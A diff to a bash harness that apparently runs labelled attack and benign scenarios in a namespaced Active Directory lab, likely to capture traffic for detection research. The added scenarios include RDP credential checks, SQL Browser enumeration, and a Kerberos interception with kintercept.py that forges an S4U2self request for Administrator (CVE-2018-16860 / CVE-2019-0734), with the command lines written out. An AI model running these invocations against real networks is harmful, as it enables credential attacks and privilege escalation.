@@ -70,7 +70,8 @@ APACHE=$STATE/apache
 
 ISL_PKGS=(python3-pyasn1 python3-pyasn1-modules python3-pycryptodome python3-ldap3 python3-flask
           python3-openssl python3-six python3-charset-normalizer python3-ldapdomaindump python3-dnspython
-          python3-cryptography python3-requests-ntlm python3-winrm apache2 libapache2-mod-auth-gssapi gss-ntlmssp curl git)
+          python3-cryptography python3-requests-ntlm python3-winrm apache2 libapache2-mod-auth-gssapi gss-ntlmssp curl git
+          freerdp2-shadow-x11 freerdp2-x11 winpr-utils xvfb)
 
 # ---------------------------------------------------------------- Impacket versions
 impacket_source() {
@@ -373,6 +374,11 @@ ISL_SCENARIOS=(
   "ben_admin_epmlookup|benign|-|none|an admin on ws01 lists dc1's endpoint map with Samba's rpcclient (epmlookup: every-entry ept_lookup, one entry per call, over \\pipe\\epmapper)"
   "atk_checkMSSQLStatus|attack|014|impacket_fingerprint|checkMSSQLStatus.py -windows-auth da_carol against the lab TDS responder with login-only encryption: PRELOGIN, then two NTLM logins, the first with the real channel binding token, the second with an empty one (extended-protection probe)"
   "atk_mimikatz|attack|010 014|mimikatz_rpc|mimikatz.py (Administrator): ept_map for mimikatz's RPC interface 17fc11e9-c258-4b8d-8d07-2f4125156244 over \\pipe\\epmapper, then on 135 (no mimikatz RPC server in the lab: not registered)"
+  "atk_rdp_check|attack|010 014|optional|rdp_check.py (alice) to dc1:3389, first with her password, then a wrong one: X.224 connection request with RDP_NEG_REQ (PROTOCOL_HYBRID + PROTOCOL_SSL), TLS, CredSSP TSRequests with NTLM NEGOTIATE/AUTHENTICATE inside TLS (lab RDP server: FreeRDP's shadow server, NLA against a SAM file); it stops after the CredSSP answer"
+  "ben_rdp_xfreerdp|benign|-|none|alice on ws01 connects to dc1:3389 with Debian's FreeRDP client xfreerdp /sec:nla: once +auth-only, once an 8-second desktop session (lab RDP server: FreeRDP's shadow server, NLA against a SAM file)"
+  "atk_kintercept|attack|010 014|optional|kintercept.py on the attacker (10.99.0.2:88, request handler s4u2else:Administrator, reply handler tgs-rep-user:alice) between svc_web on ws01 (getST.py -spn cifs/dc1 -impersonate alice with the attacker as its KDC) and dc1:88: both legs; the S4U2self TGS-REQ reaches dc1 with PA-FOR-USER Administrator and an unkeyed CRC32 checksum (CVE-2018-16860 / CVE-2019-0734), Samba answers KDC_ERR_SUMTYPE_NOSUPP (kintercept.py ported to Python 3 by lab/tools/kintercept_py3.py)"
+  "atk_mssqlinstance|attack|010 014|optional|mssqlinstance.py 10.99.0.3: SQL Server Browser request CLNT_UCAST_EX (one byte 0x03) to UDP 1434 of ws01, answered SVR_RESP with two instances (lab imitation of the SQL Browser: tools/sqlbrowser_responder.py)"
+  "ben_sql_browser_tsql|benign|-|none|an admin on dc1 lists the SQL instances of ws01 with FreeTDS (tsql -L -H: CLNT_UCAST_EX), then connects to the named instance REPORTING (CLNT_UCAST_INST, then TCP to its port, where no server listens) (lab imitation of the SQL Browser: tools/sqlbrowser_responder.py)"
   "atk_dpapidump|attack|014|impacket_fingerprint|dpapidump.py (Administrator): DCOM activation of WMI on 135 for its SCCM query (Samba has no DCOM: the bind is rejected), then SMB opens of the SYSTEM profile's Credentials folders on C\$ (absent: 'Nothing to decrypt', so it stops before the remote-registry step)"
 )
 
@@ -783,6 +789,112 @@ sc_atk_mimikatz() {
   X mimikatz ak $(imp mimikatz) -file mimi.txt "$ADMW@$DC_IP" || true
 }
 sc_atk_dpapidump() { X dpapidump ak $(imp dpapidump) "$ADMW@$DC_IP" || true; }
+
+# --- RDP: FreeRDP's shadow server on dc1 (10.99.0.1:3389) sharing a virtual X display, NLA only
+# (CredSSP with NTLM, checked against a SAM file of NT hashes made by winpr-hash), the way a
+# Windows host with "require Network Level Authentication" answers. Started per scenario, ended by
+# its PIDs. The X displays are private to the lab (:73 the server's screen, :74 ws01's client).
+RDP_DIR=$STATE/rdp RDP_PIDS=()
+rdp_start() {
+  load_secrets
+  mkdir -p "$RDP_DIR"
+  local u
+  # the account as rdp_check.py (lab.test), xfreerdp (LAB) and a bare name send it
+  for u in "LAB" "$D" ""; do
+    winpr-hash -u alice -p "$ALICE_PW" ${u:+-d "$u"} -f sam
+    winpr-hash -u Administrator -p "$ADMIN_PW" ${u:+-d "$u"} -f sam
+  done > "$RDP_DIR/sam"
+  chmod 600 "$RDP_DIR/sam"
+  rm -f /tmp/.X73-lock /tmp/.X11-unix/X73
+  ip netns exec $NS_DC Xvfb :73 -screen 0 800x600x24 -nolisten tcp > "$RDP_DIR/xvfb-dc.log" 2>&1 &
+  RDP_PIDS+=($!)
+  sleep 1
+  # the shadow server keeps its TLS certificate under $HOME/.config/freerdp
+  ip netns exec $NS_DC env HOME="$RDP_DIR" DISPLAY=:73 freerdp-shadow-cli "/bind-address:$DC_IP" /port:3389 \
+    /sec:nla "/sam-file:$RDP_DIR/sam" +auth > "$PWD/rdp_server.log" 2>&1 &
+  RDP_PIDS+=($!)
+  local i; for i in $(seq 1 40); do indc ss -Hltn | grep -q "$DC_IP:3389 " && break; sleep 0.25; done
+  indc ss -Hltn | grep -q "$DC_IP:3389 " || die "the RDP server did not listen on $DC_IP:3389 (see rdp_server.log)"
+}
+rdp_client_display() {  # an X display for Debian's RDP client on ws01
+  rm -f /tmp/.X74-lock /tmp/.X11-unix/X74
+  ip netns exec $NS_VIC Xvfb :74 -screen 0 800x600x24 -nolisten tcp > "$RDP_DIR/xvfb-ws01.log" 2>&1 &
+  RDP_PIDS+=($!)
+  sleep 1
+}
+rdp_stop() {
+  local pid
+  for pid in "${RDP_PIDS[@]}"; do kill -TERM "$pid" 2>/dev/null || true; done
+  for pid in "${RDP_PIDS[@]}"; do wait "$pid" 2>/dev/null || true; done
+  RDP_PIDS=()
+  echo "---- rdp_server.log"; grep -E 'ERROR|LOGON|denied|verification' "$PWD/rdp_server.log" || true
+}
+sc_atk_rdp_check() {
+  rdp_start
+  X rdp_check-valid ak $(imp rdp_check) "$D/alice:$ALICE_PW@$DCFQDN" || true
+  X rdp_check-wrong ak $(imp rdp_check) "$D/alice:Wrong.Passw0rd!@$DCFQDN" || true
+  rdp_stop
+}
+sc_ben_rdp_xfreerdp() {
+  rdp_start
+  rdp_client_display
+  X xfreerdp-auth-only vic env HOME="$PWD" DISPLAY=:74 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" /sec:nla \
+    /cert:ignore +auth-only || true
+  # a short desktop session; it ends when the timeout stops the client
+  X xfreerdp-session vic env HOME="$PWD" DISPLAY=:74 timeout -s INT 8 xfreerdp "/v:$DCFQDN" /u:alice /d:LAB "/p:$ALICE_PW" \
+    /sec:nla /cert:ignore /size:800x600 || true
+  rdp_stop
+}
+
+# --- kintercept.py: the victim's Kerberos routed through the attacker. The service svc_web on ws01
+# asks for S4U2self (getST.py -impersonate alice, then S4U2proxy) from a "KDC" at the attacker's
+# address (standing in for an ARP/DNS hijack); kintercept.py forwards every record to dc1:88,
+# replacing the PA-FOR-USER of the S4U2self TGS-REQ by Administrator with an unkeyed CRC32 checksum
+# (CVE-2018-16860 / CVE-2019-0734) and the cname of the TGS-REP by alice. kintercept.py does not run
+# under Python 3 in either version; tools/kintercept_py3.py ports the lines that break, first.
+KINT_PID=
+sc_atk_kintercept() {
+  local src; src=$(imp kintercept); src=${src##* }
+  X port-py3 /usr/bin/python3 "$TOOLS/kintercept_py3.py" "$src" "$PWD/kintercept.py" || return 1
+  local cmd; cmd="$(imp kintercept)"
+  cmd="${cmd% *} $PWD/kintercept.py --listen-addr $ATK_IP --request-handler s4u2else:Administrator --reply-handler tgs-rep-user:alice $DC_IP"
+  printf '+ [kintercept] (background) ak %s\n' "$cmd"
+  # shellcheck disable=SC2086
+  ip netns exec $NS_ATK timeout -k 5 "$TOOL_TO" $cmd > kintercept.log 2>&1 < /dev/null &
+  KINT_PID=$!
+  local i; for i in $(seq 1 40); do ip netns exec $NS_ATK ss -Hltn | grep -q "$ATK_IP:88 " && break; sleep 0.25; done
+  export COMPAT=1
+  X getST-via-kintercept vic $(imp getST) -spn "cifs/$DCFQDN" -impersonate alice -dc-ip "$ATK_IP" "$KD/svc_web:$WEB_PW" || true
+  sleep 1
+  kill -TERM "$KINT_PID" 2>/dev/null || true; wait "$KINT_PID" 2>/dev/null || true; KINT_PID=
+  echo "---- kintercept output"; cat kintercept.log
+}
+
+# --- SQL Server Browser ([MC-SQLR], UDP 1434) on ws01: Debian has none, so the lab's imitation
+# (tools/sqlbrowser_responder.py) answers with two instances; the clients' requests are real.
+SQLB_PID=
+sqlbrowser_start() {
+  ip netns exec $NS_VIC /usr/bin/python3 "$TOOLS/sqlbrowser_responder.py" --listen "$VIC_IP" --server SQL01 \
+    --instance MSSQLSERVER:1433:1434 --instance REPORTING:49712 > "$PWD/sqlbrowser.log" 2>&1 &
+  SQLB_PID=$!
+  local i; for i in $(seq 1 40); do ip netns exec $NS_VIC ss -Hlun | grep -q "$VIC_IP:1434 " && break; sleep 0.25; done
+}
+sqlbrowser_stop() {
+  kill -TERM "$SQLB_PID" 2>/dev/null || true; wait "$SQLB_PID" 2>/dev/null || true; SQLB_PID=
+  echo "---- sqlbrowser_responder.log"; cat "$PWD/sqlbrowser.log"
+}
+sc_atk_mssqlinstance() {
+  sqlbrowser_start
+  X mssqlinstance ak $(imp mssqlinstance) "$VIC_IP" || true
+  sqlbrowser_stop
+}
+sc_ben_sql_browser_tsql() {
+  sqlbrowser_start
+  printf '[sql01]\n\thost = %s\n\tinstance = REPORTING\n\ttds version = 7.4\n' "$VIC_IP" > freetds.conf
+  X tsql-list indc timeout 20 tsql -L -H "$VIC_IP" < /dev/null || true
+  X tsql-instance indc timeout 20 env FREETDSCONF="$PWD/freetds.conf" tsql -S sql01 -U "$DOMAIN\\alice" -P "$ALICE_PW" < /dev/null || true
+  sqlbrowser_stop
+}
 
 sc_ben_admin_epmlookup() {
   X rpcclient-epmlookup vic rpcclient -s "$CLIENTCONF" -U "$DOMAIN\\Administrator%$ADMIN_PW" -c 'epmlookup' "$DCFQDN" || true
